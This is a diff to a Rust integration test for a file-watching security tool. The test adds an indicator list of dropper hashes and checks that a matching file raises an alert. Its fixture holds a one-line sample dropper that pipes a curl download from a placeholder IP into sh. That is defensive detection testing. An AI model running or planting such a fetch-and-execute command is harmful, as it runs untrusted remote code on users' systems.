@@ -37,6 +37,12 @@ async fn rule_folder_rules_fire_and_reload_live() {
     let rules = tempfile::tempdir().unwrap();
     std::fs::write(rules.path().join("ssh.yml"), SSH_KEYS).unwrap();
     std::fs::write(rules.path().join("broken.yml"), "title: [unclosed\n").unwrap();
+    let dropper = b"#!/bin/sh\n# known dropper\ncurl http://198.51.100.7/x | sh\n";
+    std::fs::write(
+        rules.path().join("dropper-hashes.ioc"),
+        format!("# hashes of known droppers\n{}\n", vigie_model::hex::sha256(dropper)),
+    )
+    .unwrap();
     let stack = Stack::start(&format!("rules_dirs = [\"{}\"]\n", rules.path().display())).await;
     let watched = stack.path("watched");
     std::fs::create_dir_all(watched.join(".ssh")).unwrap();
@@ -67,6 +73,19 @@ async fn rule_folder_rules_fire_and_reload_live() {
         ("critical", "Vigie tests")
     );
     assert_eq!(title_fr, "Clés SSH autorisées modifiées");
+
+    // A file whose hash is on an indicator list raises an alert naming list and hash.
+    std::fs::write(watched.join("update.sh"), dropper).unwrap();
+    let summary: String = wait_for("the indicator alert", Duration::from_secs(30), || async {
+        stack
+            .client
+            .query("SELECT summary FROM alerts WHERE rule_id = 'ioc:dropper-hashes'")
+            .fetch_optional::<String>()
+            .await
+            .unwrap()
+    })
+    .await;
+    assert!(summary.contains(&vigie_model::hex::sha256(dropper)) && summary.contains("dropper-hashes"), "{summary}");
 
     // A new rule file takes effect without a restart.
     std::fs::write(rules.path().join("cron.yml"), CRON).unwrap();
